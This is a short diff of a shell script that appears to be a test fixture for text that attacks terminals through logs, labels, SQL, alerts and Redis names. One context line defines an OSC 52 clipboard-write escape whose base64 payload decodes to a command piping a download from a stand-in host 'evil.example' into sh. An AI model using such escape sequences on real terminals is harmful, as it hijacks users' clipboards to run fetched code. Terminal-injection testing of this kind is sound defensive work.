@@ -1,5 +1,4 @@
 description="text that attacks terminals: in logs, labels, a command line, SQL, alerts and Redis names"
-fits="salon"
 osc52=$'\e]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\a'
 red=$'\e[41m'
 inject() {
